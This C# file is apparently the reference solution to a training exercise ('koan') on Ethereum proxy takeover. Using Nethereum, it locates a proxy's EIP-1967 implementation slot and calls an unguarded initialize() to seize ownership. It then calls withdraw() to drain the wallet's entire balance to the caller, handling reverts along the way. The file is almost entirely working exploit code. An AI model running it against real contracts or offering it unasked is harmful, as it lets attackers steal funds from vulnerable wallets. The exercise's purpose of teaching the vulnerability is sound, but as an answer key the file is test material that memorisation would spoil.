using System.Numerics;
using System.Text;
using Nethereum.ABI.FunctionEncoding;
using Nethereum.ABI.FunctionEncoding.Attributes;
using Nethereum.Contracts;
using Nethereum.Contracts.ContractHandlers;
using Nethereum.Hex.HexTypes;
using Nethereum.JsonRpc.Client;
using Nethereum.RPC.Eth.DTOs;
using Nethereum.Util;
using Nethereum.Web3;

namespace Koans.Ethereum.ProxyTakeover;

/// <summary>The node refused a step of the takeover: at its gas estimate, or mined with status 0.</summary>
public sealed class TakeoverRefusedException(string message, Exception? innerException = null)
    : InvalidOperationException(message, innerException);

/// <summary>Reference solution for ethereum.proxy-takeover.</summary>
public sealed class WalletTakeover(IWeb3 web3)
{
    // EIP-1967: bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1). The "- 1" makes the slot a value with
    // no known keccak preimage, so no mapping or dynamic array of the implementation can ever land on it.
    private static readonly BigInteger ImplementationSlot =
        new BigInteger(Sha3Keccack.Current.CalculateHash(Encoding.ASCII.GetBytes("eip1967.proxy.implementation")), isUnsigned: true, isBigEndian: true) - 1;

    public IWeb3 Web3 { get; } = web3;

    public async Task<string> ImplementationOfAsync(string proxy, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(proxy);
        var word = await Web3.Eth.GetStorageAt.SendRequestAsync(proxy, new HexBigInteger(ImplementationSlot), BlockParameter.CreateLatest());
        // An address is the low 20 bytes of its 32-byte word: the last 40 of the 64 hex digits.
        var address = word[^40..].ToLowerInvariant();
        if (address.All(c => c == '0'))
        {
            throw new InvalidOperationException($"{proxy} has nothing in the EIP-1967 implementation slot: it is not an EIP-1967 proxy.");
        }

        return "0x" + address;
    }

    public Task<TransactionReceipt> TakeOwnershipAsync(string wallet, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(wallet);
        // Called on a proxy, initialize() runs by delegatecall against the proxy's storage; called on an implementation,
        // against the implementation's own. Either way the first caller becomes the owner of that storage.
        return SendAsync(wallet, "initialize", new InitializeFunction { Owner = Web3.TransactionManager.Account.Address }, cancellationToken);
    }

    public async Task<TransactionReceipt> DrainAsync(string wallet, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(wallet);
        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(wallet)).Value;
        return await SendAsync(wallet, "withdraw", new WithdrawFunction { To = Web3.TransactionManager.Account.Address, Amount = balance }, cancellationToken);
    }

    // The handler estimates gas first: a refused call (AlreadyInitialized, NotOwner) fails there, before it is signed.
    // A transaction mined anyway is checked by its status: a receipt is not a success.
    private async Task<TransactionReceipt> SendAsync<TFunction>(string wallet, string step, TFunction call, CancellationToken cancellationToken)
        where TFunction : FunctionMessage, new()
    {
        TransactionReceipt receipt;
        try
        {
            receipt = await Web3.Eth.GetContractHandler(wallet).SendRequestAndWaitForReceiptAsync(call, cancellationToken);
        }
        catch (Exception e) when (e is SmartContractRevertException or SmartContractCustomErrorRevertException or RpcResponseException)
        {
            throw new TakeoverRefusedException($"{wallet} refused {step}: {e.Message}", e);
        }

        if (receipt.Status?.Value != BigInteger.One)
        {
            throw new TakeoverRefusedException($"{step} on {wallet} was mined in block {receipt.BlockNumber?.Value} with status 0 (reverted): transaction {receipt.TransactionHash}.");
        }

        return receipt;
    }

    [Function("initialize")]
    private sealed class InitializeFunction : FunctionMessage
    {
        [Parameter("address", "owner_", 1)]
        public string Owner { get; set; } = "";
    }

    [Function("withdraw")]
    private sealed class WithdrawFunction : FunctionMessage
    {
        [Parameter("address", "to", 1)]
        public string To { get; set; } = "";

        [Parameter("uint256", "amount", 2)]
        public BigInteger Amount { get; set; }
    }
}
